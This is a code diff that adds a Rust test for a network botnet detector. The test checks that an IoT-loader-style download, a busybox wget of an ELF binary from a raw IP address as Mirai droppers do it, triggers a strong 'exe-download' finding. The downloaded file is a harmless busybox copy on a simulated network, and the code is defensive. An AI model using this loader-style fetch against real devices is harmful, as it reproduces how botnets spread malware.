@@ -1200,3 +1200,100 @@ fn random_names_that_do_not_exist_are_a_dga() {
     );
     assert!(w["dns_random_failed_names"].as_u64().unwrap() >= 16, "{w}");
 }
+
+// ------------------------------------------------------------------------------------------
+// Executable downloads.
+
+/// An IoT loader's fetch, as Mirai's and Hide'N Seek's droppers do it: busybox wget of an ELF
+/// program from an outside server named by address (the `exe-download` rule, strong: red). The
+/// same file fetched by name from a server the host resolved is only a weak finding.
+#[test]
+fn busybox_wget_of_an_elf_by_address_is_an_exe_download() {
+    require(&[tool("dnsmasq", "dnsmasq-base"), tool("busybox", "busybox")]);
+    let dir = TempDir::new("np-exe");
+    let lan = Lan::new("np-exe", "02:77:00:00:01:09");
+    lan.client_addrs(&["10.77.0.2", "10.77.0.3"]);
+    lan.outside(&["198.18.0.30"]);
+    lan.client.set_resolver(ROUTER);
+    let _dns = dnsmasq(&lan, &dir, &["--address=/updates.example.test/198.18.0.30"]);
+    let www = dir.join("www");
+    std::fs::create_dir_all(www.join("bins")).unwrap();
+    // A real ELF program: busybox itself, as the loaders fetch their architecture's build.
+    let busybox = which("busybox");
+    std::fs::copy(&busybox, www.join("bins/arm7")).unwrap();
+    let mut httpd_cmd = lan.router.exec("busybox");
+    httpd_cmd
+        .args(["httpd", "-f", "-p", "198.18.0.30:80", "-h"])
+        .arg(&www);
+    let _httpd = Daemon::spawn("busybox httpd", httpd_cmd, dir.join("httpd.log"));
+    lan.router.wait_tcp("198.18.0.30:80", 10);
+
+    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
+    let by_address = dir.join("by-address");
+    let by_name = dir.join("by-name");
+    for (from, url, out) in [
+        ("10.77.0.2", "http://198.18.0.30/bins/arm7", &by_address),
+        (
+            "10.77.0.3",
+            "http://updates.example.test/bins/arm7",
+            &by_name,
+        ),
+    ] {
+        // busybox wget has no source-address option: the route's source picks the address.
+        let out_str = out.to_str().unwrap();
+        lan.client.run_ok(
+            20,
+            "sh",
+            &[
+                "-c",
+                &format!(
+                    "ip route replace 198.18.0.30/32 via {ROUTER} dev {CLIENT_IF} src {from} && \
+                     busybox wget -q -O {out_str} {url}"
+                ),
+            ],
+        );
+        assert_eq!(
+            std::fs::read(out).unwrap().get(..4),
+            Some(&b"\x7fELF"[..]),
+            "{url}"
+        );
+    }
+    let pcap = cap.stop();
+
+    let flows = botd_flows(&pcap);
+    let http = app(&flows, "http");
+    let fetch = http
+        .iter()
+        .find(|f| from_to(f, "10.77.0.2", "198.18.0.30", "80"))
+        .unwrap_or_else(|| panic!("no HTTP flow by address:\n{}", dump(&flows)));
+    assert_eq!(fetch["App"]["executable"], "elf", "{}", fetch["App"]);
+
+    let analysis = botd_analyze(&pcap, &dir);
+    let loader = host(&analysis, "10.77.0.2");
+    let red = rules(loader);
+    assert!(
+        fired(&red, "exe-download")
+            .iter()
+            .any(|r| r
+                .contains("by address from 198.18.0.30 port 80 (ELF: GET 198.18.0.30/bins/arm7)")),
+        "{loader:#}"
+    );
+    let updater = host(&analysis, "10.77.0.3");
+    assert!(
+        fired(&rules(updater), "exe-download").is_empty(),
+        "{updater:#}"
+    );
+    assert!(
+        !fired(&weak(updater), "exe-download").is_empty(),
+        "{updater:#}"
+    );
+}
+
+fn which(program: &str) -> std::path::PathBuf {
+    std::env::var_os("PATH")
+        .into_iter()
+        .flat_map(|p| std::env::split_paths(&p).collect::<Vec<_>>())
+        .map(|d| d.join(program))
+        .find(|p| p.is_file())
+        .unwrap_or_else(|| panic!("{program} not on PATH"))
+}
